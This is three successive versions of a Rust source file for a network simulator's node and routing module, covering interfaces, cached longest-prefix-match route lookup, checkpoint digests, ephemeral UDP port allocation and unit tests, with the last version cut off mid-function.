//! Nodes, interfaces, and routing.

use crate::digest::StateHasher;
use crate::fastmap::FastMap;
use crate::ids::{AppId, ChannelId, IfaceId, LinkId, NodeId};
use std::net::IpAddr;

/// How an interface is attached to the fabric.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attachment {
    /// One side of a point-to-point link.
    P2p {
        /// The link.
        link: LinkId,
        /// Which endpoint of the link this interface is (0 or 1).
        side: usize,
    },
    /// A station on a shared Wi-Fi-like channel.
    Wifi {
        /// The channel.
        channel: ChannelId,
        /// Station index within the channel.
        station: usize,
    },
}

/// A network interface installed on a node.
#[derive(Debug, Clone)]
pub struct Iface {
    pub(crate) node: NodeId,
    pub(crate) addrs: Vec<IpAddr>,
    pub(crate) attachment: Option<Attachment>,
    /// IPv6/IPv4 multicast groups this interface has joined.
    pub(crate) multicast_groups: Vec<IpAddr>,
}

impl Iface {
    /// The node that owns this interface.
    pub fn node(&self) -> NodeId {
        self.node
    }

    /// Addresses assigned to this interface.
    pub fn addrs(&self) -> &[IpAddr] {
        &self.addrs
    }

    /// How the interface is attached, if at all.
    pub fn attachment(&self) -> Option<Attachment> {
        self.attachment
    }

    /// Folds the interface's state into a checkpoint digest.
    pub(crate) fn state_digest(&self, h: &mut StateHasher) {
        h.write_usize(self.node.index());
        h.write_usize(self.addrs.len());
        for a in &self.addrs {
            h.write_ip(*a);
        }
        match self.attachment {
            None => h.write_bytes(&[0]),
            Some(Attachment::P2p { link, side }) => {
                h.write_bytes(&[1]);
                h.write_usize(link.index());
                h.write_usize(side);
            }
            Some(Attachment::Wifi { channel, station }) => {
                h.write_bytes(&[2]);
                h.write_usize(channel.index());
                h.write_usize(station);
            }
        }
        h.write_usize(self.multicast_groups.len());
        for g in &self.multicast_groups {
            h.write_ip(*g);
        }
    }
}

/// A static route: destination prefix → egress interface.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Route {
    /// Prefix base address.
    pub prefix: IpAddr,
    /// Prefix length in bits.
    pub prefix_len: u8,
    /// Interface packets matching the prefix leave through.
    pub iface: IfaceId,
}

impl Route {
    /// Whether `addr` falls inside this route's prefix. Addresses of a
    /// different family never match.
    pub fn matches(&self, addr: IpAddr) -> bool {
        prefix_contains(self.prefix, self.prefix_len, addr)
    }
}

/// Whether `addr` is inside `prefix/len`.
pub fn prefix_contains(prefix: IpAddr, len: u8, addr: IpAddr) -> bool {
    match (prefix, addr) {
        (IpAddr::V4(p), IpAddr::V4(a)) => {
            let len = u32::from(len).min(32);
            if len == 0 {
                return true;
            }
            let mask = u32::MAX << (32 - len);
            (u32::from(p) & mask) == (u32::from(a) & mask)
        }
        (IpAddr::V6(p), IpAddr::V6(a)) => {
            let len = u32::from(len).min(128);
            if len == 0 {
                return true;
            }
            let mask = u128::MAX << (128 - len);
            (u128::from(p) & mask) == (u128::from(a) & mask)
        }
        _ => false,
    }
}

/// Largest number of cached destination resolutions per node; beyond it
/// the cache is cleared wholesale rather than growing without bound (a
/// scanner sweeping the whole address space must not leak memory).
const ROUTE_CACHE_CAP: usize = 65_536;

/// Tables at or below this size skip the cache and scan directly: hashing
/// a destination address costs more than matching a handful of prefixes,
/// and edge hosts (one default route per family) dominate the node count.
const SMALL_TABLE_SCAN: usize = 8;

/// A node's routing state: the route list, a lazily-sorted
/// longest-prefix-match table, and an epoch-invalidated resolution cache.
///
/// Steady-state forwarding resolves a destination with a single
/// [`FastMap`] probe. Any mutation (route add/remove) or admin transition
/// on an attached link or the node itself bumps `epoch`; the next lookup
/// notices the stale `cache_epoch`, discards every cached resolution, and
/// re-sorts the match table if routes changed.
#[derive(Debug, Default, Clone)]
pub(crate) struct RouteTable {
    /// Routes in insertion order — the reference (naive) scan uses these.
    routes: Vec<Route>,
    /// Match order for the fast path: prefix length descending, and later
    /// insertion first among equal lengths — the first matching entry is
    /// exactly what the naive `filter(..).max_by_key(prefix_len)` scan
    /// returns (`max_by_key` keeps the *last* maximal element on ties).
    sorted: Vec<Route>,
    sorted_stale: bool,
    /// Bumped on every route mutation and relevant admin change.
    epoch: u64,
    /// Epoch the cache (and sort order) were built under.
    cache_epoch: u64,
    cache: FastMap<IpAddr, Option<Route>>,
}

impl RouteTable {
    pub(crate) fn push(&mut self, route: Route) {
        self.routes.push(route);
        self.sorted_stale = true;
        self.invalidate();
    }

    /// Removes every route matching (prefix, prefix_len); returns how many
    /// were removed.
    pub(crate) fn remove(&mut self, prefix: IpAddr, prefix_len: u8) -> usize {
        let before = self.routes.len();
        self.routes
            .retain(|r| !(r.prefix == prefix && r.prefix_len == prefix_len));
        let removed = before - self.routes.len();
        if removed > 0 {
            self.sorted_stale = true;
            self.invalidate();
        }
        removed
    }

    /// Discards cached resolutions (epoch bump). Called on route mutation
    /// and on node/link admin transitions.
    pub(crate) fn invalidate(&mut self) {
        self.epoch += 1;
    }

    /// The routes in insertion order.
    pub(crate) fn as_slice(&self) -> &[Route] {
        &self.routes
    }

    /// The reference resolution: linear filter + max scan. Kept as the
    /// observable-behaviour oracle for the cached fast path.
    pub(crate) fn lookup_naive(&self, dst: IpAddr) -> Option<Route> {
        self.routes
            .iter()
            .filter(|r| r.matches(dst))
            .max_by_key(|r| r.prefix_len)
            .copied()
    }

    /// The fast path: one cache probe in steady state; on miss, a scan of
    /// the sorted match table memoized under the current epoch. Small
    /// tables bypass the cache entirely — see [`SMALL_TABLE_SCAN`].
    pub(crate) fn lookup(&mut self, dst: IpAddr) -> Option<Route> {
        if self.routes.len() <= SMALL_TABLE_SCAN {
            return self.lookup_naive(dst);
        }
        if self.cache_epoch != self.epoch {
            self.cache.clear();
            if self.sorted_stale {
                self.sorted.clear();
                self.sorted.extend(self.routes.iter().copied());
                // Stable sort by descending prefix length preserves
                // insertion order inside each length class; scanning in
                // reverse therefore prefers later-inserted routes, the
                // naive scan's tie-break.
                self.sorted.sort_by(|a, b| b.prefix_len.cmp(&a.prefix_len));
                self.sorted_stale = false;
            }
            self.cache_epoch = self.epoch;
        }
        if let Some(cached) = self.cache.get(&dst) {
            return *cached;
        }
        let resolved = self.lookup_sorted(dst);
        if self.cache.len() >= ROUTE_CACHE_CAP {
            self.cache.clear();
        }
        self.cache.insert(dst, resolved);
        resolved
    }

    /// Folds the behavior-bearing routing state into a checkpoint digest:
    /// the route list (in insertion order, which fixes the tie-break) and
    /// the invalidation epoch. The memoized cache is deliberately excluded
    /// — it is observationally transparent, and its contents follow
    /// deterministically from the lookups performed.
    pub(crate) fn state_digest(&self, h: &mut StateHasher) {
        h.write_usize(self.routes.len());
        for r in &self.routes {
            h.write_ip(r.prefix);
            h.write_bytes(&[r.prefix_len]);
            h.write_usize(r.iface.index());
        }
        h.write_u64(self.epoch);
    }

    /// Longest-prefix match over the sorted table: within each prefix
    /// length class (descending), the later-inserted route wins.
    fn lookup_sorted(&self, dst: IpAddr) -> Option<Route> {
        let mut class_start = 0;
        while class_start < self.sorted.len() {
            let len = self.sorted[class_start].prefix_len;
            let class_end = class_start
                + self.sorted[class_start..]
                    .iter()
                    .take_while(|r| r.prefix_len == len)
                    .count();
            if let Some(hit) = self.sorted[class_start..class_end]
                .iter()
                .rev()
                .find(|r| r.matches(dst))
            {
                return Some(*hit);
            }
            class_start = class_end;
        }
        None
    }
}

/// A simulated node: a host, router, or container ghost node.
#[derive(Debug, Clone)]
pub struct Node {
    pub(crate) name: String,
    pub(crate) up: bool,
    /// Whether the node forwards unicast packets not addressed to it.
    pub(crate) forwarding: bool,
    /// Whether the node relays multicast out of all other interfaces
    /// (models the LAN fabric / DHCPv6 relay behaviour of the simulated
    /// Internet segment in the paper's topology).
    pub(crate) forward_multicast: bool,
    pub(crate) ifaces: Vec<IfaceId>,
    pub(crate) routes: RouteTable,
    pub(crate) udp_binds: FastMap<u16, AppId>,
    pub(crate) next_ephemeral_port: u16,
    /// Packets received and addressed to this node (any transport).
    pub(crate) rx_packets: u64,
    /// Wire bytes received and addressed to this node.
    pub(crate) rx_bytes: u64,
}

impl Node {
    pub(crate) fn new(name: impl Into<String>) -> Self {
        Node {
            name: name.into(),
            up: true,
            forwarding: false,
            forward_multicast: false,
            ifaces: Vec::new(),
            routes: RouteTable::default(),
            udp_binds: FastMap::default(),
            next_ephemeral_port: 49152,
            rx_packets: 0,
            rx_bytes: 0,
        }
    }

    /// Packets received and addressed to this node (any transport, bound
    /// port or not) — what a Wireshark capture at the node would count.
    pub fn rx_packets(&self) -> u64 {
        self.rx_packets
    }

    /// Wire bytes received and addressed to this node.
    pub fn rx_bytes(&self) -> u64 {
        self.rx_bytes
    }

    /// The node's human-readable name.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// Whether the node is up (participating in the network).
    pub fn is_up(&self) -> bool {
        self.up
    }

    /// Interfaces installed on this node.
    pub fn ifaces(&self) -> &[IfaceId] {
        &self.ifaces
    }

    /// Longest-prefix-match route lookup — the reference linear scan.
    ///
    /// This is the semantic oracle; the simulator's forwarding path uses
    /// the epoch-cached [`Node::route_for_cached`], which is proven
    /// observationally identical by `tests/route_cache.rs`.
    pub fn route_for(&self, dst: IpAddr) -> Option<Route> {
        self.routes.lookup_naive(dst)
    }

    /// Longest-prefix-match route lookup through the per-node resolution
    /// cache — the forwarding fast path. A steady-state hit is a single
    /// hash probe; route mutations and admin transitions invalidate the
    /// cache via its epoch.
    pub fn route_for_cached(&mut self, dst: IpAddr) -> Option<Route> {
        self.routes.lookup(dst)
    }

    /// The node's routes in insertion order.
    pub fn routes(&self) -> &[Route] {
        self.routes.as_slice()
    }

    /// Folds the node's mutable state into a checkpoint digest. UDP binds
    /// are visited in sorted port order so the digest never depends on map
    /// iteration order.
    pub(crate) fn state_digest(&self, h: &mut StateHasher) {
        h.write_str(&self.name);
        h.write_bool(self.up);
        h.write_bool(self.forwarding);
        h.write_bool(self.forward_multicast);
        h.write_usize(self.ifaces.len());
        for i in &self.ifaces {
            h.write_usize(i.index());
        }
        self.routes.state_digest(h);
        let mut binds: Vec<(u16, AppId)> =
            self.udp_binds.iter().map(|(p, a)| (*p, *a)).collect();
        binds.sort_unstable_by_key(|(p, _)| *p);
        h.write_usize(binds.len());
        for (port, app) in binds {
            h.write_u32(u32::from(port));
            h.write_usize(app.node.index());
            h.write_usize(app.slot());
        }
        h.write_u32(u32::from(self.next_ephemeral_port));
        h.write_u64(self.rx_packets);
        h.write_u64(self.rx_bytes);
    }

    /// Ephemeral UDP port range (IANA dynamic ports).
    pub(crate) const EPHEMERAL_RANGE: std::ops::RangeInclusive<u16> = 49152..=u16::MAX;

    /// Allocates the next free ephemeral UDP port.
    ///
    /// # Panics
    ///
    /// Panics once every port in the 49152..=65535 range is bound: the
    /// scan is bounded to one full wrap of the range rather than spinning
    /// forever.
    pub(crate) fn alloc_ephemeral_port(&mut self) -> u16 {
        let span = usize::from(*Self::EPHEMERAL_RANGE.end() - *Self::EPHEMERAL_RANGE.start()) + 1;
        for _ in 0..span {
            let p = self.next_ephemeral_port;
            self.next_ephemeral_port = if p == *Self::EPHEMERAL_RANGE.end() {
                *Self::EPHEMERAL_RANGE.start()
            } else {
                p + 1
            };
            if !self.udp_binds.contains_key(&p) {
                return p;
            }
        }
        panic!(
            "node {:?}: ephemeral UDP port space exhausted (all {span} ports in \
             {}..={} are bound)",
            self.name,
            Self::EPHEMERAL_RANGE.start(),
            Self::EPHEMERAL_RANGE.end()
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::{Ipv4Addr, Ipv6Addr};

    fn v4(a: u8, b: u8, c: u8, d: u8) -> IpAddr {
        IpAddr::V4(Ipv4Addr::new(a, b, c, d))
    }

    #[test]
    fn prefix_match_v4() {
        assert!(prefix_contains(v4(10, 0, 0, 0), 8, v4(10, 1, 2, 3)));
        assert!(!prefix_contains(v4(10, 0, 0, 0), 8, v4(11, 1, 2, 3)));
        assert!(prefix_contains(v4(10, 0, 1, 0), 24, v4(10, 0, 1, 200)));
        assert!(!prefix_contains(v4(10, 0, 1, 0), 24, v4(10, 0, 2, 1)));
        // Zero-length prefix matches everything in-family.
        assert!(prefix_contains(v4(0, 0, 0, 0), 0, v4(192, 168, 1, 1)));
    }

    #[test]
    fn prefix_match_v6() {
        let p = IpAddr::V6(Ipv6Addr::new(0xfd00, 0, 0, 0, 0, 0, 0, 0));
        let inside = IpAddr::V6(Ipv6Addr::new(0xfd00, 0, 0, 0, 0, 0, 0, 0x42));
        let outside = IpAddr::V6(Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 1));
        assert!(prefix_contains(p, 16, inside));
        assert!(!prefix_contains(p, 16, outside));
    }

    #[test]
    fn prefix_never_matches_cross_family() {
        let p6 = IpAddr::V6(Ipv6Addr::UNSPECIFIED);
        assert!(!prefix_contains(p6, 0, v4(1, 2, 3, 4)));
        assert!(!prefix_contains(v4(0, 0, 0, 0), 0, p6));
    }

    #[test]
    fn longest_prefix_wins() {
        let mut n = Node::new("r");
        n.routes.push(Route {
            prefix: v4(10, 0, 0, 0),
            prefix_len: 8,
            iface: IfaceId::from_index(0),
        });
        n.routes.push(Route {
            prefix: v4(10, 0, 5, 0),
            prefix_len: 24,
            iface: IfaceId::from_index(1),
        });
        assert_eq!(
            n.route_for(v4(10, 0, 5, 9)).map(|r| r.iface),
            Some(IfaceId::from_index(1))
        );
        assert_eq!(
            n.route_for(v4(10, 0, 6, 9)).map(|r| r.iface),
            Some(IfaceId::from_index(0))
        );
        assert!(n.route_for(v4(192, 168, 0, 1)).is_none());
    }

    #[test]
    fn ephemeral_ports_skip_bound() {
        let mut n = Node::new("h");
        n.udp_binds.insert(49152, AppId {
            node: NodeId::from_index(0),
            slot: 0,
        });
        assert_eq!(n.alloc_ephemeral_port(), 49153);
        assert_eq!(n.alloc_ephemeral_port(), 49154);
    }

    #[test]
    #[should_panic(expected = "ephemeral UDP port space exhausted")]
    fn ephemeral_port_exhaustion_panics_instead_of_spinning() {
        let mut n = Node::new("h");
        let owner = AppId {
            node: NodeId::from_index(0),
            slot: 0,
        };
        for p in Node::EPHEMERAL_RANGE {
            n.udp_binds.insert(p, owner);
        }
        let _ = n.alloc_ephemeral_port();
    }

    #[test]
    fn cached_lookup_matches_naive_and_survives_invalidation() {
        let mut n = Node::new("r");
        n.routes.push(Route {
            prefix: v4(10, 0, 0, 0),
            prefix_len: 8,
            iface: IfaceId::from_index(0),
        });
        n.routes.push(Route {
            prefix: v4(10, 0, 5, 0),
            prefix_len: 24,
            iface: IfaceId::from_index(1),
        });
        let probes = [v4(10, 0, 5, 9), v4(10, 0, 6, 9), v4(192, 168, 0, 1)];
        for dst in probes {
            assert_eq!(n.route_for_cached(dst), n.route_for(dst), "{dst}");
            // Second probe exercises the cache-hit path.
            assert_eq!(n.route_for_cached(dst), n.route_for(dst), "{dst} (hit)");
        }
        // A more specific route inserted later must evict stale resolutions.
        n.routes.push(Route {
            prefix: v4(10, 0, 5, 9),
            prefix_len: 32,
            iface: IfaceId::from_index(2),
        });
        assert_eq!(
            n.route_for_cached(v4(10, 0, 5, 9)).map(|r| r.iface),
            Some(IfaceId::from_index(2))
        );
        // Removing it restores the previous resolution.
        assert_eq!(n.routes.remove(v4(10, 0, 5, 9), 32), 1);
        assert_eq!(
            n.route_for_cached(v4(10, 0, 5, 9)).map(|r| r.iface),
            Some(IfaceId::from_index(1))
        );
    }

    #[test]
    fn equal_length_tie_break_prefers_later_insertion_like_naive() {
        let mut n = Node::new("r");
        for i in 0..3u32 {
            n.routes.push(Route {
                prefix: v4(10, 0, 0, 0),
                prefix_len: 8,
                iface: IfaceId::from_index(i as usize),
            });
        }
        let naive = n.route_for(v4(10, 1, 2, 3));
        assert_eq!(naive.map(|r| r.iface), Some(IfaceId::from_index(2)));
        assert_eq!(n.route_for_cached(v4(10, 1, 2, 3)), naive);
    }
}
