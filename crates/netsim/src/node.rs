//! Nodes, interfaces, and routing.

use crate::ids::{AppId, ChannelId, IfaceId, LinkId, NodeId};
use std::collections::HashMap;
use std::net::IpAddr;

/// How an interface is attached to the fabric.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attachment {
    /// One side of a point-to-point link.
    P2p {
        /// The link.
        link: LinkId,
        /// Which endpoint of the link this interface is (0 or 1).
        side: usize,
    },
    /// A station on a shared Wi-Fi-like channel.
    Wifi {
        /// The channel.
        channel: ChannelId,
        /// Station index within the channel.
        station: usize,
    },
}

/// A network interface installed on a node.
#[derive(Debug)]
pub struct Iface {
    pub(crate) node: NodeId,
    pub(crate) addrs: Vec<IpAddr>,
    pub(crate) attachment: Option<Attachment>,
    /// IPv6/IPv4 multicast groups this interface has joined.
    pub(crate) multicast_groups: Vec<IpAddr>,
}

impl Iface {
    /// The node that owns this interface.
    pub fn node(&self) -> NodeId {
        self.node
    }

    /// Addresses assigned to this interface.
    pub fn addrs(&self) -> &[IpAddr] {
        &self.addrs
    }

    /// How the interface is attached, if at all.
    pub fn attachment(&self) -> Option<Attachment> {
        self.attachment
    }
}

/// A static route: destination prefix → egress interface.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Route {
    /// Prefix base address.
    pub prefix: IpAddr,
    /// Prefix length in bits.
    pub prefix_len: u8,
    /// Interface packets matching the prefix leave through.
    pub iface: IfaceId,
}

impl Route {
    /// Whether `addr` falls inside this route's prefix. Addresses of a
    /// different family never match.
    pub fn matches(&self, addr: IpAddr) -> bool {
        prefix_contains(self.prefix, self.prefix_len, addr)
    }
}

/// Whether `addr` is inside `prefix/len`.
pub fn prefix_contains(prefix: IpAddr, len: u8, addr: IpAddr) -> bool {
    match (prefix, addr) {
        (IpAddr::V4(p), IpAddr::V4(a)) => {
            let len = u32::from(len).min(32);
            if len == 0 {
                return true;
            }
            let mask = u32::MAX << (32 - len);
            (u32::from(p) & mask) == (u32::from(a) & mask)
        }
        (IpAddr::V6(p), IpAddr::V6(a)) => {
            let len = u32::from(len).min(128);
            if len == 0 {
                return true;
            }
            let mask = u128::MAX << (128 - len);
            (u128::from(p) & mask) == (u128::from(a) & mask)
        }
        _ => false,
    }
}

/// A simulated node: a host, router, or container ghost node.
#[derive(Debug)]
pub struct Node {
    pub(crate) name: String,
    pub(crate) up: bool,
    /// Whether the node forwards unicast packets not addressed to it.
    pub(crate) forwarding: bool,
    /// Whether the node relays multicast out of all other interfaces
    /// (models the LAN fabric / DHCPv6 relay behaviour of the simulated
    /// Internet segment in the paper's topology).
    pub(crate) forward_multicast: bool,
    pub(crate) ifaces: Vec<IfaceId>,
    pub(crate) routes: Vec<Route>,
    pub(crate) udp_binds: HashMap<u16, AppId>,
    pub(crate) next_ephemeral_port: u16,
    /// Packets received and addressed to this node (any transport).
    pub(crate) rx_packets: u64,
    /// Wire bytes received and addressed to this node.
    pub(crate) rx_bytes: u64,
}

impl Node {
    pub(crate) fn new(name: impl Into<String>) -> Self {
        Node {
            name: name.into(),
            up: true,
            forwarding: false,
            forward_multicast: false,
            ifaces: Vec::new(),
            routes: Vec::new(),
            udp_binds: HashMap::new(),
            next_ephemeral_port: 49152,
            rx_packets: 0,
            rx_bytes: 0,
        }
    }

    /// Packets received and addressed to this node (any transport, bound
    /// port or not) — what a Wireshark capture at the node would count.
    pub fn rx_packets(&self) -> u64 {
        self.rx_packets
    }

    /// Wire bytes received and addressed to this node.
    pub fn rx_bytes(&self) -> u64 {
        self.rx_bytes
    }

    /// The node's human-readable name.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// Whether the node is up (participating in the network).
    pub fn is_up(&self) -> bool {
        self.up
    }

    /// Interfaces installed on this node.
    pub fn ifaces(&self) -> &[IfaceId] {
        &self.ifaces
    }

    /// Longest-prefix-match route lookup.
    pub fn route_for(&self, dst: IpAddr) -> Option<Route> {
        self.routes
            .iter()
            .filter(|r| r.matches(dst))
            .max_by_key(|r| r.prefix_len)
            .copied()
    }

    pub(crate) fn alloc_ephemeral_port(&mut self) -> u16 {
        loop {
            let p = self.next_ephemeral_port;
            self.next_ephemeral_port = if p == u16::MAX { 49152 } else { p + 1 };
            if !self.udp_binds.contains_key(&p) {
                return p;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::{Ipv4Addr, Ipv6Addr};

    fn v4(a: u8, b: u8, c: u8, d: u8) -> IpAddr {
        IpAddr::V4(Ipv4Addr::new(a, b, c, d))
    }

    #[test]
    fn prefix_match_v4() {
        assert!(prefix_contains(v4(10, 0, 0, 0), 8, v4(10, 1, 2, 3)));
        assert!(!prefix_contains(v4(10, 0, 0, 0), 8, v4(11, 1, 2, 3)));
        assert!(prefix_contains(v4(10, 0, 1, 0), 24, v4(10, 0, 1, 200)));
        assert!(!prefix_contains(v4(10, 0, 1, 0), 24, v4(10, 0, 2, 1)));
        // Zero-length prefix matches everything in-family.
        assert!(prefix_contains(v4(0, 0, 0, 0), 0, v4(192, 168, 1, 1)));
    }

    #[test]
    fn prefix_match_v6() {
        let p = IpAddr::V6(Ipv6Addr::new(0xfd00, 0, 0, 0, 0, 0, 0, 0));
        let inside = IpAddr::V6(Ipv6Addr::new(0xfd00, 0, 0, 0, 0, 0, 0, 0x42));
        let outside = IpAddr::V6(Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 1));
        assert!(prefix_contains(p, 16, inside));
        assert!(!prefix_contains(p, 16, outside));
    }

    #[test]
    fn prefix_never_matches_cross_family() {
        let p6 = IpAddr::V6(Ipv6Addr::UNSPECIFIED);
        assert!(!prefix_contains(p6, 0, v4(1, 2, 3, 4)));
        assert!(!prefix_contains(v4(0, 0, 0, 0), 0, p6));
    }

    #[test]
    fn longest_prefix_wins() {
        let mut n = Node::new("r");
        n.routes.push(Route {
            prefix: v4(10, 0, 0, 0),
            prefix_len: 8,
            iface: IfaceId::from_index(0),
        });
        n.routes.push(Route {
            prefix: v4(10, 0, 5, 0),
            prefix_len: 24,
            iface: IfaceId::from_index(1),
        });
        assert_eq!(
            n.route_for(v4(10, 0, 5, 9)).map(|r| r.iface),
            Some(IfaceId::from_index(1))
        );
        assert_eq!(
            n.route_for(v4(10, 0, 6, 9)).map(|r| r.iface),
            Some(IfaceId::from_index(0))
        );
        assert!(n.route_for(v4(192, 168, 0, 1)).is_none());
    }

    #[test]
    fn ephemeral_ports_skip_bound() {
        let mut n = Node::new("h");
        n.udp_binds.insert(49152, AppId {
            node: NodeId::from_index(0),
            slot: 0,
        });
        assert_eq!(n.alloc_ephemeral_port(), 49153);
        assert_eq!(n.alloc_ephemeral_port(), 49154);
    }
}
