//! Nodes, interfaces, and routing.
//!
//! Node state lives in a struct-of-arrays arena ([`Nodes`]): every hot
//! field (`up`, `forwarding`, rx counters, route tables) is a dense
//! parallel `Vec` indexed by [`NodeId::index`], so the forwarding loop
//! walks flat arrays instead of pointer-chasing through a `Vec` of
//! heap-owning structs, and names are interned `u32` ids rather than
//! per-node `String`s. See DESIGN.md "Memory layout at scale".

use crate::digest::StateHasher;
use crate::fastmap::FastMap;
use crate::ids::{AppId, ChannelId, IfaceId, LinkId, NodeId};
use crate::intern::{NameId, NameInterner};
use std::collections::VecDeque;
use std::net::IpAddr;

/// How an interface is attached to the fabric.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attachment {
    /// One side of a point-to-point link.
    P2p {
        /// The link.
        link: LinkId,
        /// Which endpoint of the link this interface is (0 or 1).
        side: usize,
    },
    /// A station on a shared Wi-Fi-like channel.
    Wifi {
        /// The channel.
        channel: ChannelId,
        /// Station index within the channel.
        station: usize,
    },
}

/// A network interface installed on a node.
#[derive(Debug, Clone)]
pub struct Iface {
    pub(crate) node: NodeId,
    pub(crate) addrs: Vec<IpAddr>,
    pub(crate) attachment: Option<Attachment>,
    /// IPv6/IPv4 multicast groups this interface has joined.
    pub(crate) multicast_groups: Vec<IpAddr>,
}

impl Iface {
    /// The node that owns this interface.
    pub fn node(&self) -> NodeId {
        self.node
    }

    /// Addresses assigned to this interface.
    pub fn addrs(&self) -> &[IpAddr] {
        &self.addrs
    }

    /// How the interface is attached, if at all.
    pub fn attachment(&self) -> Option<Attachment> {
        self.attachment
    }

    /// Folds the interface's state into a checkpoint digest.
    pub(crate) fn state_digest(&self, h: &mut StateHasher) {
        h.write_usize(self.node.index());
        h.write_usize(self.addrs.len());
        for a in &self.addrs {
            h.write_ip(*a);
        }
        match self.attachment {
            None => h.write_bytes(&[0]),
            Some(Attachment::P2p { link, side }) => {
                h.write_bytes(&[1]);
                h.write_usize(link.index());
                h.write_usize(side);
            }
            Some(Attachment::Wifi { channel, station }) => {
                h.write_bytes(&[2]);
                h.write_usize(channel.index());
                h.write_usize(station);
            }
        }
        h.write_usize(self.multicast_groups.len());
        for g in &self.multicast_groups {
            h.write_ip(*g);
        }
    }
}

/// A static route: destination prefix → egress interface.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Route {
    /// Prefix base address.
    pub prefix: IpAddr,
    /// Prefix length in bits.
    pub prefix_len: u8,
    /// Interface packets matching the prefix leave through.
    pub iface: IfaceId,
}

impl Route {
    /// Whether `addr` falls inside this route's prefix. Addresses of a
    /// different family never match.
    pub fn matches(&self, addr: IpAddr) -> bool {
        prefix_contains(self.prefix, self.prefix_len, addr)
    }
}

/// Whether `addr` is inside `prefix/len`.
pub fn prefix_contains(prefix: IpAddr, len: u8, addr: IpAddr) -> bool {
    match (prefix, addr) {
        (IpAddr::V4(p), IpAddr::V4(a)) => {
            let len = u32::from(len).min(32);
            if len == 0 {
                return true;
            }
            let mask = u32::MAX << (32 - len);
            (u32::from(p) & mask) == (u32::from(a) & mask)
        }
        (IpAddr::V6(p), IpAddr::V6(a)) => {
            let len = u32::from(len).min(128);
            if len == 0 {
                return true;
            }
            let mask = u128::MAX << (128 - len);
            (u128::from(p) & mask) == (u128::from(a) & mask)
        }
        _ => false,
    }
}

/// Largest number of cached destination resolutions per node. At the cap
/// the cache evicts its *oldest* entry (FIFO) instead of growing without
/// bound — a scanner sweeping the whole address space churns the cache but
/// never thrashes the steady-state working set the way the old
/// clear-everything policy did on 100k-node routers.
const ROUTE_CACHE_CAP: usize = 65_536;

/// Tables at or below this size skip the cache and scan directly: hashing
/// a destination address costs more than matching a handful of prefixes,
/// and edge hosts (one default route per family) dominate the node count.
const SMALL_TABLE_SCAN: usize = 8;

/// Ephemeral UDP port range (IANA dynamic ports).
pub(crate) const EPHEMERAL_RANGE: std::ops::RangeInclusive<u16> = 49152..=u16::MAX;

/// A node's routing state: the route list, a lazily-sorted
/// longest-prefix-match table, and an epoch-invalidated resolution cache.
///
/// Steady-state forwarding resolves a destination with a single
/// [`FastMap`] probe. Any mutation (route add/remove) or admin transition
/// on an attached link or the node itself bumps `epoch`; the next lookup
/// notices the stale `cache_epoch`, discards every cached resolution, and
/// re-sorts the match table if routes changed.
#[derive(Debug, Clone)]
pub(crate) struct RouteTable {
    /// Routes in insertion order — the reference (naive) scan uses these.
    routes: Vec<Route>,
    /// Match order for the fast path: *indices* into `routes`, prefix
    /// length descending, and later insertion first among equal lengths —
    /// the first matching entry is exactly what the naive
    /// `filter(..).max_by_key(prefix_len)` scan returns (`max_by_key`
    /// keeps the *last* maximal element on ties). Indices instead of
    /// cloned `Route`s: a backbone router's table holds one entry per
    /// device, and duplicating it doubled route memory at 100k devices.
    sorted: Vec<u32>,
    sorted_stale: bool,
    /// Bumped on every route mutation and relevant admin change.
    epoch: u64,
    /// Resolution cache, allocated on first use. Edge hosts (a default
    /// route or two, under [`SMALL_TABLE_SCAN`]) never build one, so the
    /// arena row carries one pointer instead of a map + queue header.
    cache: Option<Box<RouteCache>>,
    /// Eviction threshold; `ROUTE_CACHE_CAP` outside tests.
    cache_cap: usize,
}

/// The memoized fast path of a [`RouteTable`]: destination → resolution
/// under a given epoch, with FIFO eviction at `cache_cap`.
#[derive(Debug, Clone, Default)]
struct RouteCache {
    /// Epoch the cache (and the table's sort order) were built under.
    epoch: u64,
    map: FastMap<IpAddr, Option<Route>>,
    /// Cached destinations in insertion order: the FIFO eviction queue.
    /// Invariant: exactly the keys of `map`, oldest first (inserts only
    /// happen on a miss, and epoch invalidation clears both together).
    order: VecDeque<IpAddr>,
}

impl Default for RouteTable {
    fn default() -> Self {
        RouteTable {
            routes: Vec::new(),
            sorted: Vec::new(),
            sorted_stale: false,
            epoch: 0,
            cache: None,
            cache_cap: ROUTE_CACHE_CAP,
        }
    }
}

impl RouteTable {
    pub(crate) fn push(&mut self, route: Route) {
        self.routes.push(route);
        self.sorted_stale = true;
        self.invalidate();
    }

    /// Removes every route matching (prefix, prefix_len); returns how many
    /// were removed.
    pub(crate) fn remove(&mut self, prefix: IpAddr, prefix_len: u8) -> usize {
        let before = self.routes.len();
        self.routes
            .retain(|r| !(r.prefix == prefix && r.prefix_len == prefix_len));
        let removed = before - self.routes.len();
        if removed > 0 {
            self.sorted_stale = true;
            self.invalidate();
        }
        removed
    }

    /// Discards cached resolutions (epoch bump). Called on route mutation
    /// and on node/link admin transitions.
    pub(crate) fn invalidate(&mut self) {
        self.epoch += 1;
    }

    /// The routes in insertion order.
    pub(crate) fn as_slice(&self) -> &[Route] {
        &self.routes
    }

    /// The reference resolution: linear filter + max scan. Kept as the
    /// observable-behaviour oracle for the cached fast path.
    pub(crate) fn lookup_naive(&self, dst: IpAddr) -> Option<Route> {
        self.routes
            .iter()
            .filter(|r| r.matches(dst))
            .max_by_key(|r| r.prefix_len)
            .copied()
    }

    /// The fast path: one cache probe in steady state; on miss, a scan of
    /// the sorted match table memoized under the current epoch. Small
    /// tables bypass the cache entirely — see [`SMALL_TABLE_SCAN`]. At
    /// capacity the oldest cached resolution is evicted (deterministic
    /// FIFO over the insertion queue).
    pub(crate) fn lookup(&mut self, dst: IpAddr) -> Option<Route> {
        if self.routes.len() <= SMALL_TABLE_SCAN {
